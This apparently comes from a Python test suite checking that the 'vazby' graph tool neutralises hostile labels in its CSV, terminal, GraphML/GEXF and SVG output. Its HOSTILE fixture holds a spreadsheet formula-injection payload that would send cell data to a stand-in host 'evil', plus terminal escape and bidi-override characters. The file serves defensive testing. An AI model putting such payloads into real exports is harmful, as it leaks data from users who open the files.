"""Nothing vazby writes runs in a spreadsheet, breaks an XML reader or acts on a terminal,
even from a graph whose labels carry formulas, NUL, escape sequences and bidi overrides."""

from __future__ import annotations

import csv
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner
from rdflib import RDF, RDFS, Literal

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures"))

from tinygraph import lhota_graph  # noqa: E402

from vazby.cli import main  # noqa: E402
from vazby.exports.safe import csv_cell  # noqa: E402
from vazby.ontology.namespace import VZ  # noqa: E402

HOSTILE = '=HYPERLINK("http://evil/?"&A1)\x00\x0b\x1b]0;owned\x07\u202eKlub'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_graph(tmp_path_factory) -> Path:
    graph = lhota_graph().graph
    for measure in set(graph.subjects(RDF.type, VZ.Measure)):
        for label in list(graph.objects(measure, RDFS.label)):
            graph.remove((measure, RDFS.label, label))
        graph.add((measure, RDFS.label, Literal(HOSTILE, lang="cs")))
    path = tmp_path_factory.mktemp("hostile") / "g.nt"
    graph.serialize(str(path), format="nt", encoding="utf-8")
    return path


def _no_formula(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").replace(",", "").isdigit()


def test_csv_cell_owasp_prefix_and_plain_numbers_kept():
    assert [csv_cell(c) for c in ("=1+1", "+1+1", "-1+cmd", "@A1", "\t=1", "\r=1")] == [
        "'=1+1",
        "'+1+1",
        "'-1+cmd",
        "'@A1",
        "'\t=1",
        "'\r=1",
    ]
    assert [csv_cell(c) for c in ("-12", "+3,5", "1.1.1", "Klub", "")] == [
        "-12",
        "+3,5",
        "1.1.1",
        "Klub",
        "",
    ]


def test_export_csv_tables_hostile_labels_no_formula(hostile_graph, tmp_path):
    result = CliRunner().invoke(
        main, ["export", str(hostile_graph), "-o", str(tmp_path / "t"), "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    seen = 0
    for name in ("nodes.csv", "edges.csv", "measures.csv"):
        with open(tmp_path / "t" / name, encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert _no_formula(cell), (name, cell)
                    seen += "HYPERLINK" in cell
    assert seen  # the hostile label is there, neutralised


def test_table_measures_csv_hostile_labels_no_formula(hostile_graph):
    result = CliRunner().invoke(main, ["table", "measures", str(hostile_graph), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(result.output.splitlines()))
    assert any("HYPERLINK" in c for row in rows for c in row)
    assert all(_no_formula(c) for row in rows for c in row)


@pytest.mark.parametrize("fmt", ["table", "json", "tsv"])
def test_table_measures_terminal_gets_no_control_or_escape(hostile_graph, fmt):
    result = CliRunner().invoke(main, ["table", "measures", str(hostile_graph), "--format", fmt])
    assert result.exit_code == 0, result.output
    assert "HYPERLINK" in result.output
    for char in ("\x00", "\x0b", "\x1b", "\x07", "\u202e"):
        assert char not in result.output


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_network_xml_exports_parse_with_a_strict_xml_reader(hostile_graph, tmp_path, fmt):
    out = tmp_path / f"net.{fmt}"
    result = CliRunner().invoke(main, ["export", str(hostile_graph), "-o", str(out)])
    assert result.exit_code == 0, result.output
    tree = ET.parse(out)  # raises on any character XML 1.0 forbids
    texts = [e.text or "" for e in tree.iter()] + [
        v for e in tree.iter() for v in e.attrib.values()
    ]
    assert any("HYPERLINK" in text for text in texts)


def test_svg_map_parses_with_a_strict_xml_reader(hostile_graph, tmp_path):
    out = tmp_path / "map.svg"
    result = CliRunner().invoke(
        main, ["map", str(hostile_graph), "-o", str(out), "--labels", "all", "--title", HOSTILE]
    )
    assert result.exit_code == 0, result.output
    ET.parse(out)
